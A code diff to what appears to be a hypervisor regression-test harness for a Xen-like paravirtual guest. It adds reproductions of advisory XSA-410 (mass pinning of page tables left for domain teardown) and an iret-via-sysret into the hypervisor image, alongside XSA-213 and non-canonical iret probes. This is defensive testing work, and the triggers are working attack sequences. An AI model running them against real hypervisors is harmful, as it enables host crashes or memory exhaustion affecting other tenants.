@@ -42,7 +42,13 @@ outcome fault_on_stack(std::uint64_t stack) noexcept {
     return {};
 }
 
+/// Gives processes page tables, the kernel's own; from now on an iret may lead to one.
+void have_processes() noexcept {
+    mmuext(abi::mmuext_cmd::new_user_baseptr, root_table());
+}
+
 outcome stack_switch_and_enter(std::uint64_t stack) noexcept {
+    have_processes();
     hypercall(abi::hypercall::stack_switch, std::uint64_t{abi::flat_kernel_ss}, stack);
     // From user mode the frame goes to that stack; there is no user root, so this is refused or
     // ends.
@@ -76,6 +82,25 @@ outcome race() noexcept {
     return harmless_if(true);
 }
 
+/// XSA-410: all memory as pinned tables that hang together, left behind for the domain's end.
+outcome tables_left_behind() noexcept {
+    constexpr unsigned tables = 1000;
+    auto* const window_page = window();
+    auto const readable = mfn_of(new_page());
+    unsigned pinned = 0;
+    for (unsigned i = 0; i != tables; ++i) {
+        auto const f = unmapped_frame();
+        update_va(window_page, make_entry(f, pte_rw));
+        auto* const content = static_cast<std::uint64_t volatile*>(window_page);
+        for (unsigned e = 0; e != 512; ++e) {
+            content[e] = make_entry(readable, pte_ro);
+        }
+        update_va(window_page, 0);
+        pinned += mmuext(abi::mmuext_cmd::pin_l1_table, f) == 0 ? 1U : 0U;
+    }
+    return harmless_if(pinned == tables);
+}
+
 /// XSA-213: a multicall that changes what it runs on, with calls that follow.
 outcome iret_in_a_multicall() noexcept {
     static abi::multicall_entry e[2];
@@ -90,6 +115,7 @@ outcome iret_in_a_multicall() noexcept {
 
 constexpr attempt list[] = {
     {"xsa213_iret_in_a_multicall", iret_in_a_multicall},
+    {"xsa410_tables_left_behind", tables_left_behind},
     {"iret_rip_non_canonical",
      []() noexcept {
          return unless_it_ends([] {
@@ -104,6 +130,7 @@ constexpr attempt list[] = {
      }},
     {"iret_by_sysret_non_canonical",
      []() noexcept {
+         have_processes();
          return unless_it_ends([] {
              iret_to(non_canonical, virt_base, abi::flat_user_cs, abi::flat_user_ss, 0x200,
                      abi::vgcf_in_syscall);
@@ -113,6 +140,14 @@ constexpr attempt list[] = {
      []() noexcept {
          return unless_it_ends(
              [] { iret_to(virt_base, virt_base, 0xe008, abi::flat_kernel_ss, 0x200, 0); });
+     }},
+    {"iret_by_sysret_into_the_hypervisor",
+     []() noexcept {
+         have_processes();
+         return unless_it_ends([] {
+             iret_to(image_address, image_address, abi::flat_user_cs, abi::flat_user_ss, 0x200,
+                     abi::vgcf_in_syscall);
+         });
      }},
     {"iret_ss_ring_0",
      []() noexcept {
